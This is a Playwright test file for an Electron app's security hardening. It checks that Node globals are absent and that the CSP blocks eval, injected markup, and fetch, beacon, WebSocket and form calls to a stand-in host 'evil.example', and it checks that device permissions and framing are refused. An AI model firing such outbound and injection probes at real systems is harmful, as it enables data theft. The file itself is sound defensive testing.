import type { Page } from '@playwright/test'
import { expect, test } from './fixtures.ts'

/** What Chromium itself enforces: asked of the real one, over the policy and headers that are shipped. */

/** Names by which a page would reach the machine. */
const MACHINE = [
  'process',
  'require',
  'module',
  'Buffer',
  'global',
  'electron',
  'ipcRenderer',
  '__dirname',
  'setImmediate',
]

test('no Node and no Electron in the page, in its frames and in the store worker', async ({ ui }) => {
  const seen = (names: readonly string[]): readonly string[] => names.filter((name) => name in globalThis)
  expect(await ui.page.evaluate(seen, MACHINE)).toEqual([])
  await expect(ui.page, 'the token is off the screen').not.toHaveURL(/token/)
  await expect.poll(() => ui.page.workers().length).toBeGreaterThan(0)
  for (const worker of ui.page.workers()) expect(await worker.evaluate(seen, MACHINE)).toEqual([])
  const frame = await ui.page.evaluate((names) => {
    const element = document.createElement('iframe')
    document.body.append(element)
    const inside = element.contentWindow
    const found = names.filter((name) => inside !== null && name in inside)
    element.remove()
    return found
  }, MACHINE)
  expect(frame).toEqual([])
  expect(await ui.page.evaluate(() => document.createElement('webview').constructor.name)).toBe('HTMLElement')
})

test('the policy refuses every other way to code, to the network and out of the page', async ({
  ui,
  context,
  consoleWatch,
}) => {
  const left: string[] = []
  await context.route(/evil\.example/, async (route) => {
    left.push(route.request().url())
    await route.abort()
  })
  consoleWatch.expect(
    /Content Security Policy|Content-Security-Policy|Trusted|net::ERR|Failed to (load|construct)|violates/,
  )
  const refused = await ui.page.evaluate(async () => {
    const directives: string[] = []
    addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective))
    const results: Record<string, string> = {}
    const attempt = async (name: string, run: () => unknown): Promise<void> => {
      try {
        await run()
        results[name] = 'went'
      } catch (cause) {
        results[name] = cause instanceof Error ? cause.name : 'refused'
      }
    }
    const add = (tag: string, attributes: Readonly<Record<string, string>>): void => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      document.body.append(element)
    }
    const elsewhere = 'https://evil.example'
    // Whoever drives the browser may compile code in the first task; from the next one on this is code of the page.
    await new Promise((resolve) => setTimeout(resolve, 0))
    await attempt('a function out of a text', () => Reflect.construct(Function, ['return 1']))
    await attempt('eval', () => Reflect.get(globalThis, 'eval')('1'))
    await attempt('a timer with a text', () => Reflect.apply(setTimeout, globalThis, ['1']))
    await attempt('markup', () =>
      Reflect.set(document.body.appendChild(document.createElement('p')), 'innerHTML', '<b>'),
    )
    await attempt('a worker', () => new Worker(URL.createObjectURL(new Blob(['1']))))
    await attempt('a second policy', () => Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', {}))
    await attempt('our own policy again', () =>
      Reflect.get(globalThis, 'trustedTypes').createPolicy('clientele-worker', {}),
    )
    await attempt('a request', () => fetch(`${elsewhere}/`, { mode: 'no-cors' }))
    await attempt('a request to a program of this machine', () => fetch('http://127.0.0.1:1/', { mode: 'no-cors' }))
    add('img', { src: `${elsewhere}/i.png` })
    add('link', { rel: 'stylesheet', href: `${elsewhere}/s.css` })
    add('iframe', { src: `${elsewhere}/` })
    await attempt('an object', () => add('object', { data: `${elsewhere}/o` }))
    await attempt('a script', () => add('script', { src: `${elsewhere}/s.js` }))
    add('video', { src: `${elsewhere}/v.mp4` })
    add('base', { href: `${elsewhere}/` })
    add('style', {})
    document.querySelector('body > style')?.append('body{display:none}')
    try {
      new WebSocket('wss://evil.example/')
    } catch {
      // Some ways say it here, others by the event alone.
    }
    navigator.sendBeacon(`${elsewhere}/b`, 'x')
    new EventSource(`${elsewhere}/e`).close()
    for (let tries = 0; directives.length < 12 && tries < 40; tries++)
      await new Promise((resolve) => setTimeout(resolve, 50))
    return { results, directives: [...new Set(directives)].sort() }
  })
  expect(Object.entries(refused.results).filter(([, what]) => what === 'went')).toEqual([])
  expect(refused.directives).toEqual(
    expect.arrayContaining([
      'base-uri',
      'connect-src',
      'img-src',
      'require-trusted-types-for',
      'style-src-elem',
      'trusted-types',
    ]),
  )
  expect(left, 'what the policy refuses does not come as far as the network').toEqual([])
  expect(await ui.page.evaluate(() => getComputedStyle(document.body).display), 'no style was taken').not.toBe('none')

  const form = await ui.page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))
        const element = document.createElement('form')
        element.action = 'https://evil.example/'
        document.body.append(element)
        element.submit()
      }),
  )
  expect(form).toBe('form-action')
  expect(left).toEqual([])
})

test('camera, place, devices and the like are refused', async ({ ui, consoleWatch }) => {
  consoleWatch.expect(/[Pp]ermissions? [Pp]olicy|permission|disabled in this document|not allowed/i)
  const answers = await ui.page.evaluate(async () => {
    const member = (of: object, name: string): object | null => {
      const value: unknown = Reflect.get(of, name)
      return typeof value === 'object' && value !== null ? value : null
    }
    const ask = async (on: object | null, call: string, ...args: readonly unknown[]): Promise<string> => {
      if (on === null) return 'not there'
      const method: unknown = Reflect.get(on, call)
      if (typeof method !== 'function') return 'not there'
      try {
        await Promise.race([
          Reflect.apply(method, on, args),
          new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1500)),
        ])
        return 'granted'
      } catch (cause) {
        return cause instanceof Error ? cause.name : 'refused'
      }
    }
    const place = await new Promise<string>((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve('granted'),
        () => resolve('refused'),
      )
    })
    return {
      place,
      camera: await ask(navigator.mediaDevices ?? null, 'getUserMedia', { video: true }),
      screen: await ask(navigator.mediaDevices ?? null, 'getDisplayMedia', { video: true }),
      usb: await ask(member(navigator, 'usb'), 'requestDevice', { filters: [] }),
      serial: await ask(member(navigator, 'serial'), 'requestPort'),
      hid: await ask(member(navigator, 'hid'), 'requestDevice', { filters: [] }),
      midi: await ask(navigator, 'requestMIDIAccess', { sysex: true }),
    }
  })
  expect(Object.entries(answers).filter(([, answer]) => answer === 'granted')).toEqual([])
})

test('nobody else may frame the app, or read its files', async ({ ui, context, consoleWatch }) => {
  const own = new URL(ui.page.url()).origin
  consoleWatch.expect(/frame-ancestors|Refused to (display|frame)|net::ERR|CORS|blocked|404|403|Framing/i)
  await context.route('https://evil.example/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${own}/"></iframe><p>evil</p>` }),
  )
  const evil = await context.newPage()
  await evil.goto('https://evil.example/')
  await evil.waitForTimeout(500)
  const framed = evil.frames().find((frame) => frame !== evil.mainFrame())
  expect(await textOf(framed ?? null)).not.toContain('Clientele')
  const read = await evil.evaluate(
    async (origin) =>
      fetch(`${origin}/index.html`).then(
        () => 'read',
        () => 'refused',
      ),
    own,
  )
  expect(read).toBe('refused')
  await evil.close()
})

async function textOf(frame: ReturnType<Page['mainFrame']> | null): Promise<string> {
  if (frame === null) return ''
  return frame.content().catch(() => '')
}
